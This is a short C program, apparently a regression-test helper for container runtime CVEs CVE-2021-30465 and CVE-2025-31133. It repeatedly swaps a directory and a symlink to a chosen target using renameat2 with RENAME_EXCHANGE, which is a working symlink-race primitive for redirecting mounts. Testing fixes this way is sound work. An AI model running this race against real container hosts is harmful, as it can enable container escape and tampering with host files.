/*
 * swap-directories DIRECTORY TARGET (CVE-2021-30465, CVE-2025-31133): exchanges DIRECTORY/mount, a directory, and DIRECTORY/link, a symlink to
 * TARGET, as fast as it can, until there is a file DIRECTORY/enough.
 */
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int count, char **arguments)
{
	unsigned long swaps = 0;
	if (count != 3 || chdir(arguments[1]) != 0)
		return 2;
	mkdir("mount", 0755);
	(void)!symlink(arguments[2], "link");
	printf("watching\n");
	fflush(stdout);
	while (access("enough", F_OK) != 0)
		for (unsigned i = 0; i < 64; i++)
			swaps += syscall(SYS_renameat2, AT_FDCWD, "mount", AT_FDCWD, "link", RENAME_EXCHANGE) == 0;
	printf("tries %lu\n", swaps);
	return 0;
}
